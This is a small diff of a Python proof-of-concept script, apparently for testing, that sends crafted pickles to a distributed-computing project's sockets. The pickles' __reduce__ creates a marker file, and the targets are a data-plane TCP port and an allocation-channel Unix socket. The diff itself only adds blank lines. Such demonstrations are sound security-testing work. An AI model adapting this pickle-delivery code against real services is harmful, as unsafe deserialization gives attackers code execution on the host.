@@ -12,6 +12,7 @@ Each attack delivers a pickle whose ``__reduce__`` creates ``--marker`` when unp
 
 Prints one line per attack: what the server answered (nothing, or the bytes).
 """
+
 from __future__ import annotations
 
 import argparse
@@ -46,6 +47,7 @@ def thespian(address: str, evil: bytes) -> str:
 
 def data_plane(target: str, evil: bytes) -> str:
     from babyray.serialization import SerializedObject
+
     host, port, offset = target.rsplit(":", 2)
     blob = SerializedObject(evil, [], []).to_bytes()
     with socket.create_connection((host, int(port)), timeout=5) as sock:
@@ -55,6 +57,7 @@ def data_plane(target: str, evil: bytes) -> str:
 
 def alloc_channel(arena: str, evil: bytes) -> str:
     from babyray.store import alloc_channel as channel
+
     path = channel.socket_path(arena) if hasattr(channel, "socket_path") else f"\0babyray-alloc-{arena}"
     with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as sock:
         sock.connect(path)
@@ -64,6 +67,7 @@ def alloc_channel(arena: str, evil: bytes) -> str:
 
 def alloc_pin(target: str) -> str:
     from babyray.store import alloc_channel as channel
+
     arena, _, oid = target.rpartition("=")
     path = channel.socket_path(arena) if hasattr(channel, "socket_path") else f"\0babyray-alloc-{arena}"
     request = pickle.dumps(("pin", (oid,)))
